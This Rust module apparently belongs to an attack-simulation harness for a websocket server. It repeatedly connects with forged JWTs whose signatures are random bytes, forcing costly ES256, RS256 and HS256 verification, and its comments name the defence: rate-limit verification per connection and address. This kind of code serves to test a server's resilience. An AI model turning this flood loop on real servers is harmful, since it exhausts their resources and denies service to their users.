//! Connects with tokens whose signatures are random, in turn by ES256, RS256 and HS256, as fast as it is refused.
//!
//! The attacker pays a connection and some random bytes; a signature costs the server up to a thousand times as much. It should verify
//! one at most a connection, and none of an address that has sent many bad ones. Against a server without keys this attack is none.

use std::future::poll_fn;
use std::ops::ControlFlow;
use std::rc::Rc;

use data_encoding::BASE64URL_NOPAD;
use encke_core::dialect::json::ServerMessage;
use tokio::net::TcpStream;

use super::Attacker;
use crate::transport::ConnectError;
use crate::transport::websocket::{Incoming, Socket, request_bytes, upgrade};

pub(super) async fn run(attacker: Rc<Attacker>, index: u32) {
    let (algorithm, signature_bytes) = match index % 3 {
        0 => ("ES256", 64),
        1 => ("RS256", 256),
        _ => ("HS256", 32),
    };
    loop {
        let headers = format!("Authorization: Bearer {}\r\n", forged(algorithm, signature_bytes));
        let Some(stream) = attacker.stream().await else { continue };
        if let Err(error) = show(&attacker, stream, &headers).await {
            attacker.head(Err(error));
        }
    }
}

async fn show(attacker: &Attacker, mut stream: TcpStream, headers: &str) -> Result<(), ConnectError> {
    let (host, path) = (attacker.url().authority(), attacker.url().path_with(""));
    attacker.sent(request_bytes(host, &path, headers), 1);
    let rest = upgrade(&mut stream, host, &path, headers).await?;
    let mut socket = Socket::new(stream, rest);
    let mut look = |incoming: Incoming<'_>| match incoming {
        // It is told when to come back, and then why it is refused.
        Incoming::Text(text) if is_goaway(&text) => ControlFlow::Continue(()),
        _ => ControlFlow::Break(()),
    };
    match poll_fn(|context| socket.poll_each(context, &mut look)).await {
        Ok(()) => attacker.answer("let_in"),
        Err(end) => attacker.ended(end),
    }
    socket.reset();
    Ok(())
}

fn is_goaway(text: &str) -> bool {
    matches!(serde_json::from_str(text), Ok(ServerMessage::Goaway(_)))
}

fn forged(algorithm: &str, signature_bytes: usize) -> String {
    let head = format!(r#"{{"alg":"{algorithm}","typ":"JWT"}}"#);
    let signature: Vec<u8> = std::iter::repeat_with(rand::random).take(signature_bytes).collect();
    let claims = br#"{"sub":"abuse","exp":4102444800,"channels":["**"]}"#;
    [head.as_bytes(), claims, &signature].map(|part| BASE64URL_NOPAD.encode(part)).join(".")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_forged_token_has_three_parts() {
        let parts: Vec<_> = forged("ES256", 64).split('.').map(str::to_owned).collect();
        assert_eq!((parts.len(), parts[2].len()), (3, 86));
        assert_ne!(forged("HS256", 32), forged("HS256", 32));
    }
}
